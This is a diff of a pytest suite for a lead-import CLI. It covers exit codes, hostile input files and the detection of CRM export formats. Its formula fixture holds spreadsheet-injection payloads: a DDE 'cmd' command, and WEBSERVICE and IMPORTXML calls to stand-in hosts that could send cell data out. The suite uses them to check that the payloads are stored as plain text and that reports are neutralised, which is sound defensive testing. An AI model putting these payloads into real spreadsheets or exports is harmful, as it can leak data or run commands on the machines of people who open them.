@@ -1,33 +1,39 @@
-"""`leaddesk import` as scripts see it: exit codes, JSON, hostile files that change nothing."""
+"""`leaddesk import` as scripts see it: exit codes, JSON, hostile files that change nothing,
+and every export shape imported with its mapping detected.
+
+Commands run in-process through ``leaddesk.cli.main`` on SQLite and PostgreSQL; one test
+starts the real ``python -m leaddesk`` process.
+"""
 
 from __future__ import annotations
 
+import csv
 import json
-import sqlite3
 import subprocess
 import sys
+from datetime import UTC, datetime
 from pathlib import Path
+from typing import Any
 
 import pytest
+from sqlalchemy import select
 
 from leaddesk import definition_versions
 from leaddesk import users as user_ops
+from leaddesk.cli import main
 from leaddesk.clock import FixedClock
 from leaddesk.domain import Role
+from leaddesk.resources import resource_path
 from leaddesk.store import open_store
+from leaddesk.store.models import Account, Base, Lead, Person
 
 HEADER = "First Name,Last Name,Email,Phone,Company\n"
 
 
-def leaddesk(db: Path, *args: str) -> subprocess.CompletedProcess[str]:
-    command = [sys.executable, "-m", "leaddesk", "--db", str(db), *args]
-    return subprocess.run(command, capture_output=True, text=True, timeout=240)
-
-
 @pytest.fixture
-def db(sqlite_store_path: Path, clock: FixedClock) -> Path:
-    # Set up in-process: four CLI start-ups would cost more than the tests themselves.
-    store = open_store(sqlite_store_path)
+def db(store_location: str, clock: FixedClock) -> str:
+    # Set up in-process: CLI start-ups would cost more than the tests themselves.
+    store = open_store(store_location)
     with store.transaction() as session:
         definition_versions.ensure_default(session, at=clock())
         for name, role in (
@@ -37,22 +43,28 @@ def db(sqlite_store_path: Path, clock: FixedClock) -> Path:
         ):
             user_ops.add_user(session, name=name, role=role, at=clock(), actor_id=None)
     store.close()
-    return sqlite_store_path
+    return store_location
 
 
-def dump(db: Path) -> dict[str, list[tuple[object, ...]]]:
-    """Every row of every table: the store as a whole, to compare before and after."""
-    with sqlite3.connect(db) as connection:
-        tables = [
-            name
-            for (name,) in connection.execute(
-                "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name"
-            )
-        ]
-        return {
-            table: sorted(connection.execute(f'SELECT * FROM "{table}"').fetchall(), key=repr)
-            for table in tables
-        }
+def leaddesk(capsys: pytest.CaptureFixture[str], db: str, *args: str) -> tuple[int, str, str]:
+    """Run a command in this process: (exit code, stdout, stderr)."""
+    capsys.readouterr()
+    code = main(["--db", db, *args])
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def dump(db: str) -> dict[str, list[str]]:
+    """Every row of every table, as text: the store's whole content, to compare."""
+    store = open_store(db)
+    try:
+        with store.reading() as session:
+            return {
+                table.name: sorted(repr(tuple(row)) for row in session.execute(select(table)))
+                for table in Base.metadata.sorted_tables
+            }
+    finally:
+        store.close()
 
 
 def good_rows(count: int) -> str:
@@ -61,84 +73,149 @@ def good_rows(count: int) -> str:
     )
 
 
-def hostile_files(folder: Path) -> dict[str, tuple[Path, list[str], str]]:
-    """name -> (file, extra arguments, words the message must contain)."""
-    files: dict[str, tuple[Path, list[str], str]] = {}
-
-    def add(name: str, data: bytes, says: str, *extra: str) -> None:
-        path = folder / f"{name}.csv"
-        path.write_bytes(data)
-        files[name] = (path, list(extra), says)
-
-    add("empty", b"", "is empty")
-    add("header_only", HEADER.encode(), "nothing to import")
-    add("binary", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, "PNG image")
-    add("binary_noise", bytes((n * 37) % 256 for n in range(20_000)), "binary")
-    # 50 MB in one field, after thousands of good rows: found before anything is stored.
-    huge = (HEADER + good_rows(5000)).encode() + b'Q,Huge,"' + b"x" * 50_000_000 + b'",,\n'
-    add("huge_field", huge, "over")
-    add(
-        "unbalanced_quotes",
+# name -> (file bytes, extra arguments, words the message must contain after the file name)
+HOSTILE: dict[str, tuple[bytes, list[str], list[str]]] = {
+    "empty": (b"", [], ["is empty"]),
+    "blank_lines": (b"\r\n\r\n  \r\n", [], ["is empty"]),
+    "header_only": (HEADER.encode(), [], ["nothing to import"]),
+    "png": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, [], ["PNG image"]),
+    "binary_noise": (bytes((n * 37) % 256 for n in range(20_000)), [], ["binary"]),
+    "broken_xlsx": (b"PK\x03\x04" + b"\x00garbage" * 200, [], ["xlsx"]),
+    "unbalanced_quotes": (
         (HEADER + good_rows(4500) + 'Bad,"Row,bad@x.example,,Co\n' + good_rows(3)).encode(),
-        'never closed (missing ")',
-    )
-    add(
-        "wrong_encoding",
+        [],
+        ["row 4502", 'never closed (missing ")'],
+    ),
+    "wrong_declared_encoding": (
         (HEADER + "Jürgen,Müller,j@m.example,,Müller GmbH\n").encode("cp1252"),
-        "is not utf-8",
-        "--encoding",
-        "utf-8",
-    )
-    add("duplicate_headers", b"Email,Name,email\na@b.example,A,c@d.example\n", "appears twice")
-    add("no_columns", b"colour,size\nteal,9\n", "no recognisable columns")
-    return files
+        ["--encoding", "utf-8"],
+        ["is not utf-8"],
+    ),
+    "declared_utf16_but_utf8": (
+        (HEADER + good_rows(3)).encode("utf-8"),
+        ["--encoding", "utf-16"],
+        ["utf-16"],
+    ),
+    "duplicate_headers": (
+        b"Email,Name,email\na@b.example,A,c@d.example\n",
+        [],
+        ["column 'email'", "appears twice"],
+    ),
+    "no_recognisable_columns": (b"colour,size\nteal,9\n", [], ["no recognisable columns"]),
+}
 
 
-@pytest.mark.slow
-def test_hostile_files_exit_2_with_a_message_and_leave_the_store_unchanged(
-    db: Path, tmp_path: Path
+@pytest.fixture(scope="module")
+def huge_field_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """50 MB in one field, after thousands of good rows (made once: it takes a moment)."""
+    path = tmp_path_factory.mktemp("hostile") / "huge_field.csv"
+    with path.open("wb") as out:
+        out.write((HEADER + good_rows(5000)).encode())
+        out.write(b'Q,Huge,"' + b"x" * 50_000_000 + b'",,\n')
+    return path
+
+
+@pytest.mark.parametrize("name", [*HOSTILE, "huge_field"])
+def test_hostile_file_exits_2_with_a_message_and_leaves_the_store_unchanged(
+    capsys: pytest.CaptureFixture[str],
+    db: str,
+    tmp_path: Path,
+    huge_field_file: Path,
+    name: str,
 ) -> None:
+    if name == "huge_field":
+        path, extra, says = huge_field_file, [], ["row 5002", "column 'Email'", "over 4 MB"]
+    else:
+        data, extra, says = HOSTILE[name]
+        path = tmp_path / f"{name}.csv"
+        path.write_bytes(data)
     before = dump(db)
-    for name, (path, extra, says) in hostile_files(tmp_path).items():
-        result = leaddesk(db, "import", str(path), "--as", "lead1", *extra)
-        assert result.returncode == 2, (name, result.stderr)
-        message = result.stderr.strip()
-        assert message.startswith(f"leaddesk: {path.name}"), (name, message)
-        assert says in message, (name, message)
-        assert "Traceback" not in result.stderr and len(message.splitlines()) == 1, name
-        assert dump(db) == before, name
+    code, out, err = leaddesk(capsys, db, "import", str(path), "--as", "lead1", *extra)
+    assert code == 2, (name, err)
+    message = err.strip()
+    assert message.startswith(f"leaddesk: {path.name}"), message
+    for words in says:
+        assert words.casefold() in message.casefold(), (words, message)
+    assert "Traceback" not in err and len(message.splitlines()) == 1 and out == ""
+    assert dump(db) == before
 
 
-def test_formula_payloads_import_as_plain_text_and_the_report_cannot_run_them(
-    db: Path, tmp_path: Path
+def test_huge_field_message_names_the_column(
+    capsys: pytest.CaptureFixture[str], db: str, huge_field_file: Path
+) -> None:
+    # The same file in a dry run: found on the way, with the same message.
+    code, _out, err = leaddesk(
+        capsys, db, "import", str(huge_field_file), "--as", "lead1", "--dry-run"
+    )
+    assert code == 2 and "row 5002, column 'Email'" in err
+
+
+FORMULAS = {
+    "First Name": '=HYPERLINK("http://evil.example","click")',
+    "Last Name": "@SUM(A1:A9)",
+    "Email": "ada@engines.example",
+    "Phone": "=2+5",
+    "Company": "-2+3+cmd|' /C calc'!A0",
+    "Title": "+SUM(1)",
+    "Description": '=IMPORTXML(CONCAT("http://x.example/?",A2),"//a")',
+    "Favourite": "@MAX(B:B)",
+}
+
+
+def test_formula_payloads_in_any_field_are_stored_verbatim_as_plain_text(
+    capsys: pytest.CaptureFixture[str], db: str, tmp_path: Path
 ) -> None:
     export = tmp_path / "formulas.csv"
-    export.write_text(
-        HEADER + '=HYPERLINK("http://evil.example"),@SUM(A1),not-an-email,+1 212 555 0100,=1+2\n',
-        encoding="utf-8",
-    )
+    second = {**FORMULAS, "Email": '=HYPERLINK("mailto:x@y.example")', "Phone": "+1 212 555 0100"}
+    with export.open("w", newline="", encoding="utf-8") as out:
+        writer = csv.DictWriter(out, fieldnames=list(FORMULAS))
+        writer.writeheader()
+        other = {
+            **second,
+            "First Name": '=WEBSERVICE("http://evil.example")',
+            "Last Name": "@SUM(B1)",
+        }
+        writer.writerows([FORMULAS, other])
     report = tmp_path / "report.csv"
-    result = leaddesk(db, "import", str(export), "--as", "lead1", "--report", str(report), "--json")
-    assert result.returncode == 0, result.stderr
-    assert json.loads(result.stdout)["created"] == 1
-    with sqlite3.connect(db) as connection:
-        stored = connection.execute("SELECT first_name, last_name FROM people").fetchone()
-        company = connection.execute("SELECT name FROM accounts").fetchone()
-    assert stored == ('=HYPERLINK("http://evil.example")', "@SUM(A1)")
-    assert company == ("=1+2",)
-    text = report.read_text(encoding="utf-8-sig")
-    assert "not-an-email" in text and "\n=" not in text and ",=" not in text
+    code, out, err = leaddesk(
+        capsys, db, "import", str(export), "--as", "lead1", "--report", str(report), "--json"
+    )
+    assert code == 0, err
+    assert json.loads(out)["created"] == 2
+    store = open_store(db)
+    with store.reading() as session:
+        people = {p.last_name: p for p in session.scalars(select(Person))}
+        first, other = people["@SUM(A1:A9)"], people["@SUM(B1)"]
+        assert first.first_name == FORMULAS["First Name"] and first.title == "+SUM(1)"
+        assert session.scalars(select(Account.name)).one() == FORMULAS["Company"]
+        lead = session.scalars(select(Lead).where(Lead.person_id == first.id)).one()
+        assert lead.inquiry == FORMULAS["Description"]
+        assert lead.extra is not None
+        assert lead.extra["columns"] == {"Favourite": "@MAX(B:B)"}
+        assert lead.extra["phone_as_typed"] == "=2+5"
+        other_lead = session.scalars(select(Lead).where(Lead.person_id == other.id)).one()
+        assert other_lead.extra is not None
+        assert other_lead.extra["email_as_typed"] == second["Email"]
+    store.close()
+    # The report shows the rejected values, but no cell of it can start a formula.
+    with report.open(encoding="utf-8-sig", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert any("=2+5" in cell for cell in cells)
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
 
 
-def test_json_summary_has_the_counts_and_the_report(db: Path, tmp_path: Path) -> None:
+def test_json_summary_has_the_counts_and_the_report_and_progress_goes_to_stderr(
+    capsys: pytest.CaptureFixture[str], db: str, tmp_path: Path
+) -> None:
     export = tmp_path / "leads.csv"
     export.write_text(HEADER + good_rows(3) + ",,,,Nobody\n", encoding="utf-8")
     report = tmp_path / "report.csv"
-    result = leaddesk(
-        db, "import", str(export), "--as", "rep1", "--dry-run", "--report", str(report), "--json"
-    )
-    assert result.returncode == 0, result.stderr
-    summary = json.loads(result.stdout)
+    code, out, err = leaddesk(
+        capsys, db, "import", str(export), "--as", "rep1", "--dry-run", "--report", str(report),
+        "--json",
+    )  # fmt: skip
+    assert code == 0, err
+    summary = json.loads(out)
     assert {k: summary[k] for k in ("rows", "created", "merged", "attached", "invalid")} == {
         "rows": 4,
         "created": 3,
@@ -148,29 +225,182 @@ def test_json_summary_has_the_counts_and_the_report(db: Path, tmp_path: Path) ->
     }
     assert summary["existing_account"] == 0 and summary["report"] == str(report)
     assert summary["dry_run"] is True and summary["run"] is None
+    assert "Checking: 4 of about 4 rows" in err and err.rstrip().endswith("4 rows, done")
+
+    code, out, err = leaddesk(capsys, db, "import", str(export), "--as", "rep1", "--json")
+    assert code == 0 and json.loads(out)["created"] == 3
+    assert err.rstrip().endswith("Importing: 4 rows, done")
+    code, out, _err = leaddesk(capsys, db, "import", str(export), "--as", "rep1")
+    assert code == 0 and "3 already imported" in out
 
 
-def test_sales_may_not_import(db: Path, tmp_path: Path) -> None:
+def test_sales_may_not_import(capsys: pytest.CaptureFixture[str], db: str, tmp_path: Path) -> None:
     export = tmp_path / "leads.csv"
     export.write_text(HEADER + good_rows(1), encoding="utf-8")
     before = dump(db)
-    result = leaddesk(db, "import", str(export), "--as", "sales1")
-    assert result.returncode == 3 and "cannot import leads" in result.stderr
+    code, _out, err = leaddesk(capsys, db, "import", str(export), "--as", "sales1")
+    assert code == 3 and "cannot import leads" in err
     assert dump(db) == before
 
 
-def test_undo_from_the_command_line_restores_the_store(db: Path, tmp_path: Path) -> None:
+def test_undo_from_the_command_line_restores_the_store(
+    capsys: pytest.CaptureFixture[str], db: str, tmp_path: Path
+) -> None:
     export = tmp_path / "leads.csv"
     export.write_text(HEADER + good_rows(5), encoding="utf-8")
     before = dump(db)
-    imported = leaddesk(db, "import", str(export), "--as", "lead1", "--json")
-    assert imported.returncode == 0, imported.stderr
-    run = json.loads(imported.stdout)["run"]
-    undone = leaddesk(db, "import", "--undo", str(run), "--as", "lead1")
-    assert undone.returncode == 0, undone.stderr
-    assert "removed 5 leads" in undone.stdout
+    code, out, err = leaddesk(capsys, db, "import", str(export), "--as", "lead1", "--json")
+    assert code == 0, err
+    run = json.loads(out)["run"]
+    code, out, err = leaddesk(capsys, db, "import", "--runs", "--as", "lead1", "--json")
+    assert code == 0 and json.loads(out)[0]["run"] == run
+    code, out, err = leaddesk(capsys, db, "import", "--undo", str(run), "--as", "lead1")
+    assert code == 0, err
+    assert "removed 5 leads" in out
     after = dump(db)
     for table in ("leads", "people", "accounts", "notes"):
         assert after[table] == before[table], table
-    again = leaddesk(db, "import", "--undo", str(run), "--as", "lead1")
-    assert again.returncode == 2 and "already undone" in again.stderr
+    code, _out, err = leaddesk(capsys, db, "import", "--undo", str(run), "--as", "lead1")
+    assert code == 2 and "already undone" in err
+
+
+# -- every export shape, its mapping detected, its fields where they belong ---------------------
+
+SALESFORCE_CONTACTS = (
+    "Contact ID,First Name,Last Name,Title,Account Name,Email,Phone,Mobile,Mailing Country,"
+    "Contact Owner,Lead Source,Description\n"
+    "0035g00000AbCdE,Maya,Okafor,CTO,Lagos Freight Ltd,maya@lagosfreight.example,"
+    "+234 803 123 4567,,Nigeria,Dana Whitfield,Partner Referral,Asked about the API\n"
+)
+
+# file -> (shape, the row's email, what must have landed: (table.column, value))
+SHAPES: dict[str, tuple[str, str, dict[str, Any]]] = {
+    "salesforce_leads.csv": (
+        "salesforce",
+        "ava.thompson@northwind.example.com",
+        {
+            "person.first_name": "Ava", "person.last_name": "Thompson",
+            "person.phone": "+14155550134", "person.title": "VP Operations",
+            "person.country": "US", "account.name": "Northwind Traders, Inc.",
+            "account.industry": "Logistics", "account.employees": 15,
+            "lead.source": "trade_show", "lead.inquiry": "Do you support SSO (SAML, OIDC)?",
+            "lead.extra.columns": {"Lead Status": "Open - Not Contacted",
+                                   "Lead Owner": "Dana Whitfield"},
+        },
+    ),
+    "salesforce_contacts.csv": (
+        "salesforce",
+        "maya@lagosfreight.example",
+        {
+            "person.first_name": "Maya", "person.last_name": "Okafor", "person.title": "CTO",
+            "person.phone": "+2348031234567", "person.country": "NG",
+            "account.name": "Lagos Freight Ltd", "lead.source": "partner_referral",
+            "lead.inquiry": "Asked about the API",
+        },
+    ),
+    "hubspot_contacts.csv": (
+        "hubspot",
+        "sofia.garcia@iberia-soluciones.es",
+        {
+            "person.first_name": "Sofía", "person.last_name": "García",
+            "person.phone": "+34912345678", "person.title": "Directora de Compras",
+            "person.country": "ES", "person.city": "Madrid",
+            "account.name": "Soluciones Iberia S.L.", "lead.source": "direct_traffic",
+            "lead.arrived_at": datetime(2024, 5, 1, 8, 0),
+        },
+    ),
+    "marketo_list.csv": (
+        "marketo",
+        "liam.oconnor@brightwave.co.uk",
+        {
+            "person.first_name": "Liam", "person.last_name": "O'Connor",
+            "person.phone": "+442079460321", "person.country": "GB",
+            "account.name": "Brightwave Ltd", "lead.source": "trade_show",
+            "lead.campaign": "Spring Trade Show",
+        },
+    ),
+    "linkedin_leadgen.csv": (
+        "linkedin",
+        "liam.oconnor@brightwave.co.uk",
+        {
+            "person.first_name": "Liam", "person.last_name": "O'Connor",
+            "person.phone": "+442079460321", "person.title": "Head of IT",
+            "person.country": "GB", "account.name": "Brightwave Ltd",
+            "lead.campaign": "Q3 Demo Request - EMEA",
+        },
+    ),
+    "plain_contacts.csv": (
+        "plain",
+        "h.tanaka@sakura-robotics.jp",
+        {
+            "person.first_name": "Hiroshi", "person.last_name": "Tanaka",
+            "person.phone": "+81312345678", "person.country": "JP",
+            "account.name": "Sakura Robotics K.K.",
+        },
+    ),
+    "plain_contacts.xlsx": (
+        "plain",
+        "h.tanaka@sakura-robotics.jp",
+        {
+            "person.first_name": "Hiroshi", "person.last_name": "Tanaka",
+            "person.phone": "+81312345678", "account.name": "Sakura Robotics K.K.",
+        },
+    ),
+}  # fmt: skip
+
+
+def _landed(lead: Lead, field: str) -> Any:
+    owner, _, name = field.partition(".")
+    target: Any = {"person": lead.person, "account": lead.account, "lead": lead}[owner]
+    if name.startswith("extra."):
+        return (target.extra or {}).get(name.removeprefix("extra."))
+    value = getattr(target, name)
+    if isinstance(value, datetime):
+        return value.astimezone(UTC).replace(tzinfo=None)
+    return value
+
+
+@pytest.mark.parametrize("sample", list(SHAPES))
+def test_each_export_shape_imports_through_the_cli_with_its_fields_in_place(
+    capsys: pytest.CaptureFixture[str], db: str, tmp_path: Path, sample: str
+) -> None:
+    shape, email, expected = SHAPES[sample]
+    if sample == "salesforce_contacts.csv":
+        path = tmp_path / sample
+        path.write_text(SALESFORCE_CONTACTS, encoding="utf-8")
+    else:
+        path = resource_path("samples", sample)
+    code, out, err = leaddesk(capsys, db, "import", str(path), "--as", "lead1", "--json")
+    assert code == 0, err
+    summary = json.loads(out)
+    assert (summary["mapping"]["shape"], summary["mapping"]["how"]) == (shape, "detected")
+    assert summary["created"] >= summary["rows"] - 2 and summary["created"] > 0
+    store = open_store(db)
+    try:
+        with store.reading() as session:
+            lead = session.scalars(select(Lead).join(Person).where(Person.email == email)).one()
+            landed = {field: _landed(lead, field) for field in expected}
+    finally:
+        store.close()
+    assert landed == expected
+
+
+def test_the_leaddesk_command_exits_2_on_a_binary_file_and_imports_a_good_one(
+    db: str, tmp_path: Path
+) -> None:
+    """The real entry point, once: exit codes and streams as a shell script sees them."""
+    if "://" in db:
+        pytest.skip("one real process is enough; SQLite covers it")
+    binary = tmp_path / "photo.csv"
+    binary.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8)
+    command = [sys.executable, "-m", "leaddesk", "--db", db, "import"]
+    bad = subprocess.run([*command, str(binary), "--as", "lead1"], capture_output=True, text=True)
+    assert bad.returncode == 2 and bad.stdout == ""
+    assert bad.stderr.strip() == "leaddesk: photo.csv: is a PNG image, not a CSV or XLSX export"
+    good = tmp_path / "leads.csv"
+    good.write_text(HEADER + good_rows(2), encoding="utf-8")
+    result = subprocess.run(
+        [*command, str(good), "--as", "lead1", "--json"], capture_output=True, text=True
+    )
+    assert result.returncode == 0, result.stderr
+    assert json.loads(result.stdout)["created"] == 2
